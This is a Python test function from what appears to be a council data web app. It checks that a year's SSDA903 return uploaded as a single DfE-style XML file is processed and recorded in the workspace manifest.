def test_a_years_return_is_uploaded_in_the_dfes_xml_form(web, clients):
    """A council whose case system exports the return as the DfE collects it (one XML file) had to rebuild
    its CSV tables first: the upload took only CSV files."""
    import json

    from test_xml_return import as_xml

    from placecast.web import workspace
    from placecast.web.workspace import folder

    admin = clients["admin"]
    workspace.create_council(web.engine, web.data_dir, "xml-council", "XML council", "Demo region")
    year = sorted(p for p in folder(web.data_dir, "demo").returns.iterdir() if p.name.isdigit())[0]
    r = admin.post("/c/xml-council/data/upload", data={"year": year.name, "csrftoken": token(admin)},
                   files=[("files", ("SSDA903 return.xml", as_xml(year), "application/xml"))])
    job = _job_of(web, r)
    assert job.status == "done", job.error
    manifest = json.loads((folder(web.data_dir, "xml-council").history / "manifest.json").read_text())
    assert manifest["years"] == [int(year.name)] and manifest["episodes"] > 300
    assert "SSDA903 return.xml" in [p.name for p in (folder(web.data_dir, "xml-council").returns / year.name).iterdir()]
